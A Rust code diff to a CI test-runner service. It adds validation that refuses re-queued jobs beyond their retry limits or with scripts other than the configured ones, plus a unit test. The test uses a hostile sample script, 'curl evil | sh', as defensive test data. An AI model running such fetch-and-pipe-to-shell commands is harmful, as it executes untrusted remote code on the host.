@@ -60,6 +60,9 @@ type BaseKey = (String, String, String, String, String);
 /// Base runs remembered before the table is cleared (each is one bool).
 const BASES_KEPT: usize = 10_000;
 
+/// The most re-runs a test's failure may get (`retries`): more hides a broken test.
+pub const MAX_RETRIES: u32 = 5;
+
 /// The topic suffix a runner announces a base run on (body `patchbay.json` v1: `test`, `arch`,
 /// `commit`, `fails`, `job`, the series job that asked): within its role, read by people and
 /// the history, bound by no queue.
@@ -76,6 +79,9 @@ pub struct RunnerService {
     /// Whether a test fails on a base alone, run once per [`BaseKey`] on this runner (jobs
     /// waiting on the same base share the one run).
     bases: Arc<std::sync::Mutex<std::collections::HashMap<BaseKey, Arc<tokio::sync::OnceCell<bool>>>>>,
+    /// The configured scripts by (project, test): a re-run another runner queued must run
+    /// exactly one of them (a runner's key may not queue scripts of its own).
+    scripts: std::collections::HashMap<(String, String), Option<String>>,
 }
 
 /// Removes a job from the running set when its handling ends, however it ends.
@@ -127,14 +133,27 @@ impl RunnerService {
             superseded: Default::default(),
             running: Default::default(),
             bases: Default::default(),
+            scripts: Default::default(),
         }
+    }
+
+    /// The projects' test scripts by (project, test), as configured here; re-runs queued by
+    /// runners are checked against them.
+    pub fn scripts(mut self, scripts: std::collections::HashMap<(String, String), Option<String>>) -> Self {
+        self.scripts = scripts;
+        self
+    }
+
+    fn bad_retry(&self, job: &TestJob) -> Option<String> {
+        retry_refusal(&self.scripts, job)
     }
 
     /// Whether `job`'s test fails on `commit` alone, the series left out: run once per base and
     /// test definition, announced on [`BASELINE_TOPIC`]; `None` when it could not be run (then
     /// nothing is cached, and the series' failure counts).
     async fn base_fails(&self, job: &TestJob, commit: &str) -> Option<bool> {
-        let definition = format!("{:?} {:?}", job.script, job.limits);
+        // The base with the series' dependencies (`Based-on:`): the tree the series goes onto.
+        let definition = format!("{:?} {:?} {:?}", job.script, job.limits, job.dependencies);
         let key = (job.repository.clone(), commit.to_string(), job.test.clone(), job.arch.clone(), definition);
         let cell = {
             let mut bases = self.bases.lock().unwrap();
@@ -148,7 +167,7 @@ impl RunnerService {
                 repository: job.repository.clone(),
                 branch: job.branch.clone(),
                 base_commit: Some(commit.to_string()),
-                dependencies: Vec::new(),
+                dependencies: job.dependencies.iter().map(|d| d.clone().into_bytes()).collect(),
                 mbox: Vec::new(),
                 script: job.script.clone(),
                 limits: limits(job),
@@ -238,6 +257,19 @@ impl RunnerService {
     }
 }
 
+/// Why a re-run another runner queued is not one to take, if it is not: a retry beyond the
+/// test's `retries`, or a script other than the one configured for (project, test).
+fn retry_refusal(scripts: &std::collections::HashMap<(String, String), Option<String>>, job: &TestJob) -> Option<String> {
+    if job.retry == 0 || job.retry > job.retries || job.retries > MAX_RETRIES {
+        return Some(format!("re-run {} of {} is not a re-run a test may have (at most {MAX_RETRIES})", job.retry, job.retries));
+    }
+    match scripts.get(&(job.series.project.clone(), job.test.clone())) {
+        Some(script) if *script == job.script => None,
+        Some(_) => Some(format!("its script is not the one configured for {} {}", job.series.project, job.test)),
+        None => Some(format!("{} {} is not a test configured here", job.series.project, job.test)),
+    }
+}
+
 /// A job's limits as the runner takes them.
 fn limits(job: &TestJob) -> Limits {
     Limits {
@@ -304,7 +336,13 @@ impl Handler for RunnerService {
             self.publish(vec![msg]).await?;
             return Err(HandlerError::Permanent(reason));
         }
-        if attempt == 1 && job.avoid.as_deref() == Some(self.publisher.sender().instance.as_str()) {
+        if envelope.topic.as_str().ends_with(".requeued")
+            && let Some(why) = self.bad_retry(&job)
+        {
+            tracing::warn!(job = %job.job, sender = %envelope.sender, %why, "A re-queued job refused.");
+            return Err(HandlerError::Permanent(format!("re-queued job refused: {why}")));
+        }
+        if attempt == 1 && self.max_attempts > 1 && job.avoid.as_deref() == Some(self.publisher.sender().instance.as_str()) {
             // A re-run of this runner's own failure: another runner may take it meanwhile;
             // when none does, it comes back here and runs.
             tracing::info!(job = %job.job, retry = job.retry, "A re-run of this runner's failure: left a moment for another runner.");
@@ -488,6 +526,27 @@ mod tests {
         // What fits is left alone, and a log without the diff is tailed as before.
         assert_eq!(apply_excerpt(&log[..500], EXCERPT), &log[..500]);
         assert_eq!(apply_excerpt(&"x".repeat(EXCERPT + 10), EXCERPT), tail(&"x".repeat(EXCERPT + 10), EXCERPT));
+    }
+
+    #[test]
+    fn a_re_run_queued_by_a_runner_must_be_a_configured_test_within_its_retries() {
+        let job: TestJob = serde_json::from_value(serde_json::json!({
+            "job": "7-v1-build-x86_64", "test": "build", "arch": "x86_64", "capabilities": [], "required": true,
+            "series": {"id": 7, "project": "net", "name": "x", "submitter": "a@b", "version": 1, "total": 1},
+            "repository": "r", "branch": "main", "base_commit": null, "dependencies": [], "mbox": "", "script": "make",
+            "limits": {"wall_secs": 1, "memory_mib": 1, "processes": 1, "file_size_mib": 1, "output_kib": 1},
+            "retries": 2, "retry": 1
+        }))
+        .unwrap();
+        let scripts: std::collections::HashMap<(String, String), Option<String>> =
+            [(("net".to_string(), "build".to_string()), Some("make".to_string()))].into();
+        assert_eq!(retry_refusal(&scripts, &job), None);
+        let evil = TestJob { script: Some("curl evil | sh".into()), ..job.clone() };
+        assert!(retry_refusal(&scripts, &evil).unwrap().contains("not the one configured"));
+        assert!(retry_refusal(&scripts, &TestJob { retry: 3, ..job.clone() }).is_some(), "beyond its retries");
+        assert!(retry_refusal(&scripts, &TestJob { retries: 50, retry: 9, ..job.clone() }).is_some());
+        assert!(retry_refusal(&scripts, &TestJob { retry: 0, ..job.clone() }).is_some(), "a first run is the dispatcher's");
+        assert!(retry_refusal(&Default::default(), &job).unwrap().contains("not a test configured here"));
     }
 
     #[test]
